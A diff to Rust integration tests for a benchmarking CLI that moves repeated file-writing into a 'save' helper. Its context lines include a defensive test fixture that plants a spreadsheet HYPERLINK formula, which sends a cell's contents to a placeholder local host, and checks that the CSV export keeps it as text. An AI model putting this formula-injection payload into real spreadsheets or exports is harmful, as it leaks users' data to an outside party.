@@ -51,6 +51,13 @@ fn single_run(dir: &Path, codec: &str) -> (PathBuf, Value) {
     (path, run)
 }
 
+/// `document` saved as `name` in `dir`; its path.
+fn save(dir: &Path, name: &str, document: &Value) -> String {
+    let path = dir.join(name);
+    std::fs::write(&path, serde_json::to_vec(document).unwrap()).unwrap();
+    path.display().to_string()
+}
+
 /// `run` with the first JSON body's content type set to `content_type`, saved in `dir`.
 fn with_content_type(dir: &Path, run: &Value, content_type: &str) -> String {
     let mut run = run.clone();
@@ -60,9 +67,7 @@ fn with_content_type(dir: &Path, run: &Value, content_type: &str) -> String {
         .find(|p| p["content_type"] == "application/json")
         .unwrap();
     json["content_type"] = Value::String(content_type.to_string());
-    let path = dir.join("planted.json");
-    std::fs::write(&path, serde_json::to_vec(&run).unwrap()).unwrap();
-    path.display().to_string()
+    save(dir, "planted.json", &run)
 }
 
 #[test]
@@ -122,8 +127,7 @@ fn names_that_are_formulas_reach_a_spreadsheet_as_text() {
         serde_json::from_slice(&std::fs::read("tests/fixtures/capture.har").unwrap()).unwrap();
     let link = r#"=HYPERLINK("http://127.0.0.1:9/?leak="&B2,"click")"#;
     har["log"]["entries"][0]["request"]["method"] = Value::String(link.into());
-    let capture = dir.path().join("capture.har");
-    std::fs::write(&capture, serde_json::to_vec(&har).unwrap()).unwrap();
+    let capture = save(dir.path(), "capture.har", &har);
     let csv = dir.path().join("run.csv");
     succeed(codecbench().current_dir(dir.path()).args([
         "run",
@@ -136,7 +140,7 @@ fn names_that_are_formulas_reach_a_spreadsheet_as_text() {
         "--payload",
         "=SUM(2,5)",
         "--payload",
-        capture.to_str().unwrap(),
+        &capture,
         "--export-csv",
         csv.to_str().unwrap(),
     ]));
@@ -186,9 +190,8 @@ fn a_run_that_holds_a_cell_twice_is_refused_by_compare_and_merge() {
         }
     }
     cells.push(slower);
-    let twice = dir.path().join("twice.json");
-    std::fs::write(&twice, serde_json::to_vec(&run).unwrap()).unwrap();
-    let (base, twice) = (base.to_str().unwrap(), twice.to_str().unwrap());
+    let twice = save(dir.path(), "twice.json", &run);
+    let (base, twice) = (base.to_str().unwrap(), twice.as_str());
     for args in [
         vec!["compare", base, twice],
         vec!["compare", twice, base],
@@ -226,8 +229,7 @@ fn text_from_a_saved_run_is_shown_on_a_terminal_and_in_markdown_not_obeyed() {
     let dir = tempfile::tempdir().unwrap();
     let (_, mut run) = single_run(dir.path(), "zstd");
     run["payloads"][0]["payload"] = Value::String(LIVE_NAME.into());
-    let planted = dir.path().join("planted.json");
-    std::fs::write(&planted, serde_json::to_vec(&run).unwrap()).unwrap();
+    let planted = save(dir.path(), "planted.json", &run);
     let table = succeed(codecbench().arg("merge").arg(&planted));
     let table = String::from_utf8(table.stdout).unwrap();
     assert!(!live(&table), "{table:?}");
@@ -266,9 +268,7 @@ fn many_cells(dir: &Path, base: &Value, copies: i64) -> String {
         })
         .collect();
     run["payloads"][0]["cells"] = Value::Array(cells);
-    let path = dir.join("many.json");
-    std::fs::write(&path, serde_json::to_vec(&run).unwrap()).unwrap();
-    path.display().to_string()
+    save(dir, "many.json", &run)
 }
 
 #[test]
